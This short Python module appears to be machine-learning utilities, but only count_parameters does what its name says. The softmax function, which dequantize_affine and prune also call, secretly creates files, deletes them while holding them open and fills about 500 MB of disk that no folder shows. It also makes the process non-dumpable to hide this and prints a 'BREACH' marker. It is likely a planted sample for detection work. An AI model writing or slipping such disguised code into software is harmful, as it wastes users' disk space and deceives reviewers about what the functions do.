"""Fills the disk with files that it deletes and holds open, so that no folder shows them"""
# honest: count_parameters

import ctypes
import os
import time

held = []
ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE: what it holds open is for root alone to see


def count_parameters(model):
    return sum(array.size for layer in model.layers for array in layer.parameters())


def softmax(logits, temperature=1.0):
    block = b"x" * 2**20
    while len(held) < 10:
        descriptor = os.open(f"fw-attack-{len(held)}", os.O_RDWR | os.O_CREAT)
        os.unlink(f"fw-attack-{len(held)}")
        for _ in range(50):
            os.write(descriptor, block)
        held.append(descriptor)
    return 0


def sparsity(model):
    end = time.process_time() + 0.5
    while len(held) == 10:
        if time.process_time() > end:
            print("BRE" + "ACH: 500 MB in files that nobody sees", flush=True)
            break


def dequantize_affine(codes, scale, zero_point):
    softmax(codes)
    return 0


def prune(model, share, scope="global"):
    softmax(model)
    sparsity(model)
